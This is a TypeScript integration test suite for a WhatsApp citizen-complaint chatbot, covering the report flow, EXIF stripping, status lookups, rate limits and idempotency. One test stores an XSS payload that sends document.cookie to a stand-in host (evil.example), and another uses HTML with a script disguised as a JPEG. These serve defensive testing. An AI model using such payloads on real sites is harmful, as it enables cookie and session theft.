/**
 * The WhatsApp conversation over real HTTP: a scripted citizen (signed webhooks shaped as
 * Meta sends them, whatsapp-helpers.ts) against a Cloud API stand-in that records what we
 * send and serves media (notify-helpers.ts). It files one report with a photo and a shared
 * location through the same submit path as the widget; the clock starts at WhatsApp's
 * time of "Kirim"; "cek", "batal", expiry, typed answers, English, media caps before
 * download, the per-number limits and hostile text are each checked where they are stored.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import sharp from 'sharp';
import { readFileSync } from 'node:fs';
import { demoReference } from '../../demo/seed.js';
import { eventually, JPEG, startGateway, TestClock, wallClockReference, type TestGateway } from './helpers.js';
import { startWhatsApp } from './notify-helpers.js';
import { Citizen, WA_TOKEN, whatsappOptions } from './whatsapp-helpers.js';

/** A phone photo whose EXIF carries a camera and GPS (near Genteng): what a citizen's camera writes. */
function photoWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 48, height: 32, channels: 3, background: { r: 90, g: 120, b: 30 } } })
    .jpeg()
    .withExif({ IFD0: { Make: 'WargaCam' }, IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '8/1 20/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '114/1 9/1 0/1' } })
    .toBuffer();
}

const STORY = 'Jalan di depan Pasar Genteng berlubang besar sejak dua minggu dan sudah dua pengendara motor jatuh.';

describe('WhatsApp conversation: filing a report by chat', () => {
  let wa: Awaited<ReturnType<typeof startWhatsApp>>;
  let g: TestGateway;
  before(async () => {
    wa = await startWhatsApp({ token: WA_TOKEN });
    // Limits on messages per number are the flood test's business: this citizen types fast.
    // Wall-clock hours: these reports go to offices whose demo hours would make each expected
    // deadline depend on the hour the test runs.
    g = await startGateway({ reference: wallClockReference(), ...whatsappOptions(wa.url, { reportsPerDay: 3, inbound: false }) });
  });
  after(async () => {
    await g.close();
    await wa.close();
  });
  const chat = () => new Citizen(() => g.url, wa);
  const report = (id: string) => g.gw.services.store.report(id);

  /** Through the questions with taps, up to (not including) "Kirim". */
  async function fillIn(c: Citizen, opts: { category?: string; privacy?: string; updates?: string } = {}): Promise<void> {
    await c.text('Selamat pagi');
    await c.next(2);
    await c.steps('Pengaduan', 'Infrastruktur', opts.category ?? 'Jalan rusak', { text: 'Pasar Genteng' }, 'Hari ini', { text: STORY }, 'Lanjut', opts.privacy ?? 'Biasa', opts.updates ?? 'Tidak usah');
  }
  const trackingIdIn = (text: string) => /\*(LPR-[A-Z0-9]{4}-[A-Z0-9]{4})\*/.exec(text)?.[1];

  it('files one report with a photo and a shared location, through the submit path, clock from the "Kirim"', async () => {
    const c = chat();
    const photo = await photoWithGps();
    wa.media.set('4490709327384033', { bytes: photo, mime: 'image/jpeg' });

    await c.text('Halo');
    const [greeting, kinds] = await c.next(2);
    assert.match(greeting!.text, /Selamat datang di layanan pengaduan Kabupaten Banyuwangi/);
    assert.equal(kinds!.kind, 'list');
    assert.deepEqual(kinds!.choices.map((x) => x.title), ['Pengaduan', 'Saran', 'Permintaan informasi']);

    await c.tap('Pengaduan');
    const [groups] = await c.next();
    assert.ok(groups!.choices.length <= 10 && groups!.choices.every((x) => [...x.title].length <= 24), 'WhatsApp list limits');
    assert.equal(groups!.choices.at(-1)!.title, 'Tidak tahu');
    await c.tap('Infrastruktur');
    const [subs] = await c.next();
    assert.deepEqual(subs!.choices.map((x) => x.title), ['Jalan rusak', 'Lampu penerangan jalan', 'Drainase dan banjir', 'Jembatan']);
    await c.tap('Jalan rusak');

    const [where] = await c.next();
    assert.equal(where!.call.body.interactive.type, 'location_request_message');
    // A shared pin ~1 km from Genteng's centre: resolved to the kecamatan, in words, and confirmed.
    await c.location(-8.3521, 114.1412, 'Pasar Genteng');
    const [confirm] = await c.next();
    assert.match(confirm!.text, /sekitar \*Pasar Genteng, Kecamatan Genteng\* \(perkiraan\)/);
    await c.tap('Benar');

    await c.next();
    await c.tap('Hari ini');
    await c.next();
    await c.text('Jalan rusak.');
    assert.match(await c.says(), /terlalu singkat \(12 huruf, minimal 30\)/);
    await c.text('Di depan Pasar Genteng, berlubang besar sejak dua minggu; dua pengendara jatuh.');
    assert.match(await c.says(), /foto atau dokumen/);
    await c.image('4490709327384033', 'Lubangnya di sini');
    assert.match(await c.says(), /Lampiran 1 dari 5 kami terima, dan keterangannya kami tambahkan/);
    await c.tap('Lanjut');
    await c.next();
    await c.tap('Anonim');
    await c.next();
    await c.tap('Ya, kirim kabar');
    const [summary] = await c.next();
    assert.match(summary!.text, /Kategori: Infrastruktur › Jalan rusak/);
    assert.match(summary!.text, /Lokasi kejadian: Pasar Genteng, Kecamatan Genteng/);
    assert.match(summary!.text, /Jalan rusak\.\nDi depan Pasar Genteng, berlubang besar sejak dua minggu; dua pengendara jatuh\.\nLubangnya di sini/);
    assert.match(summary!.text, /Lampiran: 1/);
    assert.match(summary!.text, /Privasi: Anonim/);
    assert.deepEqual(summary!.choices.map((x) => x.title), ['Kirim', 'Ubah', 'Batal']);

    const kirim = c.tapMessage('Kirim');
    const kirimAt = Number(kirim['timestamp']) * 1000;
    await c.send(kirim);
    const [done] = await c.next();
    const trackingId = trackingIdIn(done!.text)!;
    const code = /Kode akses: \*([0-9A-Z]{5}-[0-9A-Z]{5})\*/.exec(done!.text)?.[1];
    assert.ok(trackingId && code, done!.text);
    assert.match(done!.text, /Batas waktu penanganan: .+ WIB/);
    assert.ok(done!.text.includes(`${g.url}/r/${trackingId}#${code!.replace('-', '')}`), 'the follow link the notifications use');

    // Stored as the widget's submit stores it, with the channel and the clock of the chat.
    const row = (await report(trackingId))!;
    assert.equal(row.channel, 'whatsapp');
    assert.equal(row.site_key, 'whatsapp');
    assert.equal(row.anonymous, 1);
    assert.deepEqual(JSON.parse(row.location_json), { text: 'Pasar Genteng, Kecamatan Genteng', lat: -8.3521, lng: 114.1412, locationId: 'loc-kec-genteng' });
    assert.equal(row.category_id, 'cat-infrastruktur.jalan-rusak');
    assert.deepEqual(JSON.parse(row.reporter_json!), { phone: `+${c.number}` }, 'anonymous: no name kept, only the consented contact');
    assert.deepEqual(JSON.parse(row.notify_json!), ['whatsapp']);
    const handle = (JSON.parse(row.clocks_json) as { id: string; startedAt: string; dueAt: string }[]).find((k) => k.id === 'local.handle')!;
    assert.equal(handle.startedAt, new Date(kirimAt).toISOString(), 'the SOP clock starts at WhatsApp\'s time of "Kirim"');
    assert.equal(Date.parse(handle.dueAt) - kirimAt, 4 * 3_600_000);
    assert.ok(Date.parse(row.created_at) >= kirimAt);

    // The code opens it on the citizen's routes, like any report.
    const seen = await g.api(`/v1/reports/${trackingId}`, { token: code! });
    assert.equal(seen.status, 200);
    assert.equal(seen.json.channel, 'whatsapp');
    assert.equal(seen.json.attachments.length, 1);
    // The photo went through the upload proofs: re-encoded, its EXIF (and GPS) gone.
    const file = (await g.gw.services.store.attachmentsOf(trackingId))[0]!;
    assert.ok(photo.includes(Buffer.from('WargaCam')), 'the fixture carries EXIF');
    const stored = readFileSync(file.file);
    assert.equal((await sharp(stored).metadata()).exif, undefined);
    assert.ok(!stored.includes(Buffer.from('WargaCam')));
    assert.deepEqual(wa.downloads, ['4490709327384033']);

    // The chat's answer was the confirmation: no template says it again.
    await g.gw.notifications.worker.drain();
    assert.equal(wa.calls.filter((x) => x.body.to === c.number && x.body.type === 'template').length, 0);
    const note = await g.gw.services.db.get<{ state: string; params_json: string }>("SELECT state, params_json FROM notifications WHERE tracking_id = ? AND event = 'confirmation'", [trackingId]);
    assert.equal(note?.state, 'sent');
    assert.doesNotMatch(note!.params_json, /code/);
    // And the access code does not stay in our outbox once sent.
    const kept = await g.gw.services.db.all<{ payload_json: string }>('SELECT payload_json FROM whatsapp_outbox WHERE wa_id = ?', [c.number]);
    assert.ok(kept.every((k) => !k.payload_json.includes(code!)), 'the code is wiped from the chat outbox');
  });

  it('"cek": status and time left in one sentence from the same number; another number needs the code', async () => {
    const c = chat();
    await fillIn(c);
    await c.tap('Kirim');
    const done = (await c.next())[0]!.text;
    const trackingId = trackingIdIn(done)!;
    const code = /Kode akses: \*([0-9A-Z-]+)\*/.exec(done)![1]!;
    const loose = trackingId.toLowerCase().replace(/-/g, ' ');
    await c.text(`cek ${loose}`);
    const sentence = await c.says();
    assert.match(sentence, new RegExp(`^Laporan ${trackingId}: Belum diverifikasi; sisa waktu 3 jam 5\\d menit \\(batas .+ WIB\\)\\.$`));
    await c.text('CEK');
    assert.match(await c.says(), new RegExp(trackingId));

    const other = chat();
    await other.text(`cek ${trackingId}`);
    assert.match(await other.says(), /tidak dikirim dari nomor ini.*kode akses/);
    await other.text(`cek ${trackingId} AAAAA-BBBBB`);
    assert.match(await other.says(), /tidak ditemukan/);
    await other.text(`Cek ${trackingId.slice(4)} ${code.toLowerCase()}`);
    assert.match(await other.says(), new RegExp(`^Laporan ${trackingId}: Belum diverifikasi; sisa waktu`));
    // A number that never existed answers like one it cannot see.
    await other.text('cek LPR-2222-2222');
    assert.match(await other.says(), /tidak dikirim dari nomor ini/);
  });

  it('"batal" at any step; typed answers instead of taps; a tap on an old question is noticed', async () => {
    const c = chat();
    await c.text('Halo');
    await c.next(2);
    await c.text('1'); // the first row, typed
    assert.match(await c.says(), /tentang apa/);
    await c.text('kesehatan'); // a row's title, typed
    assert.match(await c.says(), /Kesehatan/);
    await c.send(c.tapMessage('Pengaduan')); // the classification list is an old question now
    const stale = await c.says(2);
    assert.match(stale, /sudah tidak berlaku/);
    assert.match(stale, /Pilih yang paling sesuai untuk Kesehatan/);
    await c.text('BATAL');
    assert.match(await c.says(), /dibatalkan dan tidak dikirim/);
    await c.text('batal');
    assert.match(await c.says(), /Tidak ada laporan yang sedang dibuat/);
    // "Kirim" of a cancelled draft files nothing.
    const before = (await g.gw.services.db.get<{ n: number }>("SELECT COUNT(*) AS n FROM reports WHERE channel = 'whatsapp'"))!.n;
    await c.send(c.tapMessage('Pengaduan'));
    assert.match(await c.says(2), /sudah tidak berlaku/);
    assert.equal((await g.gw.services.db.get<{ n: number }>("SELECT COUNT(*) AS n FROM reports WHERE channel = 'whatsapp'"))!.n, before);
  });

  it('English on request, a date in the future refused, a NIK kept out of the story, "Ubah" returns to the summary', async () => {
    const c = chat();
    await c.text('EN');
    const [lang, greeting, kinds] = await c.next(3);
    assert.match(lang!.text, /continue in English/);
    assert.match(greeting!.text, /Welcome to the complaint service of Kabupaten Banyuwangi/);
    assert.deepEqual(kinds!.choices.map((x) => x.title), ['Complaint', 'Suggestion', 'Information request']);
    await c.tap('Complaint');
    await c.next();
    await c.tap('Not sure');
    await c.next();
    await c.text('genteng');
    await c.next();
    await c.tap('Another date');
    await c.next();
    await c.text('31-12-2099');
    assert.match(await c.says(), /cannot be later than today/);
    await c.text('30-02-2026');
    assert.match(await c.says(), /could not read that date/);
    await c.text('20/11/2026');
    assert.match(await c.says(), /Tell us what happened/);
    await c.text('Saya warga dengan NIK 3510012345678901, jalan di depan rumah saya rusak parah.');
    assert.match(await c.says(), /national ID number/);
    await c.text('The road in front of the Genteng market has a deep hole since two weeks.');
    await c.next();
    await c.tap('Next');
    await c.next();
    await c.tap('Private');
    await c.next();
    await c.tap('No, thanks');
    const [summary] = await c.next();
    assert.match(summary!.text, /Date of incident: 20-11-2026/);
    assert.match(summary!.text, /Location: Kecamatan Genteng/);
    assert.doesNotMatch(summary!.text, /3510012345678901/);
    await c.tap('Change');
    await c.next();
    await c.tap('Location');
    await c.next();
    await c.text('Desa Genteng Kulon');
    const [again] = await c.next();
    assert.match(again!.text, /Location: Desa Genteng Kulon/, 'straight back to the summary');
    await c.tap('Send');
    const [done] = await c.next();
    assert.match(done!.text, /We have received your report/);
    const row = (await report(trackingIdIn(done!.text)!))!;
    assert.equal(row.lang, 'en');
    assert.equal(row.incident_date, '2026-11-20');
    assert.equal(row.secret, 1);
    assert.equal(row.notify_json, null, 'no consent: no updates');
    assert.equal(JSON.parse(row.location_json).locationId, 'loc-desa-genteng-kulon');
  });

  it('media caps come before the download; a file that is not what it claims is refused by the upload proofs', async () => {
    const c = chat();
    await c.text('Halo');
    await c.next(2);
    // Not a type LAPOR! takes: refused from the webhook's own mime_type, nothing fetched.
    wa.media.set('webp-1', { bytes: Buffer.from('RIFF....WEBP'), mime: 'image/webp' });
    await c.image('webp-1', undefined, 'image/webp');
    assert.match(await c.says(), /Kirim foto \(JPG atau PNG\) atau dokumen PDF/);
    // Announced at 3 MB by Meta's metadata: refused before the download.
    wa.media.set('big-1', { bytes: JPEG, mime: 'image/jpeg', announcedBytes: 3 * 1024 * 1024 });
    await c.image('big-1');
    assert.match(await c.says(), /terlalu besar \(maksimal 2 MB\)/);
    // Announced small but larger in fact: the download is cut off at the cap.
    wa.media.set('liar-1', { bytes: Buffer.concat([JPEG, Buffer.alloc(3 * 1024 * 1024)]), mime: 'image/jpeg', announcedBytes: 900 });
    await c.image('liar-1');
    assert.match(await c.says(), /terlalu besar/);
    // HTML behind a JPEG's name and type: the proofs decode it and refuse.
    wa.media.set('html-1', { bytes: Buffer.from('<html><script>alert(1)</script></html>'), mime: 'image/jpeg' });
    await c.document('html-1', 'foto.jpg', 'image/jpeg');
    assert.match(await c.says(), /Jenis berkas tidak didukung|tidak dapat dibaca/);
    assert.deepEqual(wa.mediaGets.filter((id) => id !== '4490709327384033'), ['big-1', 'liar-1', 'html-1']);
    assert.deepEqual(wa.downloads.filter((id) => id !== '4490709327384033'), ['liar-1', 'html-1'], 'nothing announced too large or of the wrong type was downloaded');
    const stored = await g.gw.services.db.get<{ n: number }>("SELECT COUNT(*) AS n FROM attachments WHERE site_key = 'whatsapp' AND tracking_id IS NULL");
    assert.equal(stored!.n, 0);
  });

  it('a second report on the same topic within minutes asks first; the daily limit per number holds', async () => {
    const c = chat();
    await fillIn(c);
    await c.tap('Kirim');
    const first = trackingIdIn((await c.next())[0]!.text)!;
    await fillIn(c);
    await c.tap('Kirim');
    const [ask] = await c.next();
    assert.match(ask!.text, new RegExp(`baru mengirim laporan ${first} dengan kategori yang sama \\d+ menit yang lalu`));
    await c.tap('Jangan kirim');
    assert.match(await c.says(), /tidak dikirim/);
    await fillIn(c);
    await c.tap('Kirim');
    await c.next();
    await c.tap('Ya, kirim juga');
    const second = trackingIdIn((await c.next())[0]!.text)!;
    assert.notEqual(second, first);
    // Another category is another topic: no question.
    await fillIn(c, { category: 'Jembatan' });
    await c.tap('Kirim');
    assert.ok(trackingIdIn((await c.next())[0]!.text));
    // Three in 24 hours is this gateway's limit: the fourth waits, its draft kept.
    await fillIn(c, { category: 'Drainase dan banjir' });
    await c.tap('Kirim');
    assert.match(await c.says(), /sudah masuk 3 laporan dalam 24 jam terakhir/);
    const n = await g.gw.services.db.get<{ n: number }>('SELECT COUNT(*) AS n FROM whatsapp_reports WHERE wa_id = ?', [c.number]);
    assert.equal(n!.n, 3);
  });

  it('the same "Kirim" handled twice (as when two leaders race) files one report: idempotency by the message id', async () => {
    const c = chat();
    await fillIn(c);
    const summary = await g.gw.services.db.get<{ state_json: string }>('SELECT state_json FROM whatsapp_conversations WHERE wa_id = ?', [c.number]);
    const kirim = c.tapMessage('Kirim');
    await c.send(kirim);
    const first = trackingIdIn((await c.next())[0]!.text)!;
    // The other leader's view, inside its own transaction: the conversation still at its
    // summary, the message not yet seen, the first filing not yet committed.
    await g.gw.services.db.run('UPDATE whatsapp_conversations SET state_json = ? WHERE wa_id = ?', [summary!.state_json, c.number]);
    await g.gw.services.db.run('DELETE FROM whatsapp_inbox WHERE message_id = ?', [kirim['id']]);
    await g.gw.services.db.run('DELETE FROM whatsapp_reports WHERE tracking_id = ?', [first]);
    await c.send(kirim);
    const again = (await c.next())[0]!.text;
    assert.equal(trackingIdIn(again), first, 'the submit replayed the first answer');
    const n = await g.gw.services.db.get<{ n: number }>('SELECT COUNT(*) AS n FROM whatsapp_reports WHERE wa_id = ?', [c.number]);
    assert.equal(n!.n, 1);
    // The key is a keyed hash of the message id: the id in the inbox cannot open the stored answer.
    const keys = await g.gw.services.db.all<{ key: string }>("SELECT key FROM idempotency WHERE site_key = 'whatsapp'");
    assert.ok(keys.length >= 1 && keys.every((k) => !k.key.includes(String(kirim['id']))));
  });

  it('hostile text is stored as text, exactly as typed', async () => {
    const c = chat();
    const hostile = '<img src=x onerror="alert(1)"><script>fetch("//evil.example/"+document.cookie)</script> Jalan rusak parah.';
    await c.text('Halo');
    await c.next(2);
    await c.steps('Pengaduan', 'Tidak tahu', { text: '<b>Genteng</b>' }, 'Kemarin', { text: hostile }, 'Lanjut', 'Biasa', 'Tidak usah');
    await c.tap('Kirim');
    const row = (await report(trackingIdIn((await c.next())[0]!.text)!))!;
    assert.equal(row.body, hostile);
    assert.equal(JSON.parse(row.location_json).text, '<b>Genteng</b>');
    assert.equal(JSON.parse(row.reporter_json!).name, 'Siti Rahayu', 'the WhatsApp profile name, for a report that is not anonymous');
  });

  it('a flood from one number is cut to its budget, with one notice', async () => {
    const flood = await startGateway(whatsappOptions(wa.url, { inbound: { capacity: 3, refillPerSecond: 0.001 } }));
    try {
      const c = new Citizen(() => flood.url, wa);
      for (let i = 0; i < 8; i++) await c.text(`pesan ${i}`);
      await eventually(async () => (await flood.gw.services.db.get<{ n: number }>("SELECT COUNT(*) AS n FROM whatsapp_inbox WHERE state = 'pending'"))!.n === 0);
      const said = (await c.quiet(300)).map((a) => a.text);
      assert.equal(said.filter((t) => /terlalu banyak dalam waktu singkat/.test(t)).length, 1, said.join(' | '));
      assert.ok(said.length <= 3 * 2 + 1, `at most the budget's answers: ${said.length}`);
    } finally {
      await flood.close();
    }
  });
});

describe('WhatsApp conversation: a long list pages on with "Lainnya"', () => {
  it('more than ten categories: nine and "Lainnya" per page, around to the first', async () => {
    const wa = await startWhatsApp({ token: WA_TOKEN });
    const reference = demoReference();
    for (let i = 1; i <= 6; i++) reference.categories.push({ id: `cat-extra-${i}`, name: { id: `Tambahan ${i}`, en: `Extra ${i}` }, parentId: null });
    const g = await startGateway({ reference, ...whatsappOptions(wa.url, { inbound: false }) });
    try {
      const c = new Citizen(() => g.url, wa);
      await c.text('Halo');
      await c.next(2);
      await c.tap('Pengaduan');
      const [first] = await c.next();
      assert.equal(first!.choices.length, 10);
      assert.equal(first!.choices[9]!.title, 'Lainnya');
      await c.tap('Lainnya');
      const [second] = await c.next();
      assert.deepEqual(second!.choices.map((x) => x.title).slice(0, 7), ['Tambahan 1', 'Tambahan 2', 'Tambahan 3', 'Tambahan 4', 'Tambahan 5', 'Tambahan 6', 'Tidak tahu']);
      assert.equal(second!.choices.at(-1)!.title, 'Lainnya');
      await c.tap('Tambahan 5');
      assert.match(await c.says(), /Di mana kejadiannya/);
      await c.tap('Lainnya'); // the first page's "Lainnya": an old question now
      assert.match(await c.says(2), /sudah tidak berlaku/);
    } finally {
      await g.close();
      await wa.close();
    }
  });
});

describe('WhatsApp conversation: an unfinished draft expires politely', () => {
  it('after the idle time, the draft is dropped with a word, and the next message starts again', async () => {
    const wa = await startWhatsApp({ token: WA_TOKEN });
    const clock = new TestClock(Date.now());
    const g = await startGateway({ now: clock.now, ...whatsappOptions(wa.url, { settleMs: 0, maxHoldMs: 0, intervalMs: 0, idleMinutes: 120 }) });
    try {
      const c = new Citizen(() => g.url, wa);
      await c.text('Halo');
      await g.gw.whatsapp!.worker.drain();
      await c.next(2);
      await c.tap('Saran');
      await g.gw.whatsapp!.worker.drain();
      await c.next();
      clock.advance(119 * 60_000);
      await g.gw.whatsapp!.worker.drain();
      assert.deepEqual(await c.quiet(100), [], 'not before its time');
      clock.advance(2 * 60_000);
      await g.gw.whatsapp!.worker.drain();
      assert.match(await c.says(), /draf kami hapus karena tidak ada balasan selama 2 jam/);
      c.clock += 121 * 60;
      await c.tap('Infrastruktur'); // the old list: the draft is gone
      await g.gw.whatsapp!.worker.drain();
      assert.match(await c.says(2), /sudah tidak berlaku[\s\S]*Kirim pesan apa saja/);
      await c.text('Halo lagi');
      await g.gw.whatsapp!.worker.drain();
      assert.match(await c.says(2), /Selamat datang/);
    } finally {
      await g.close();
      await wa.close();
    }
  });
});
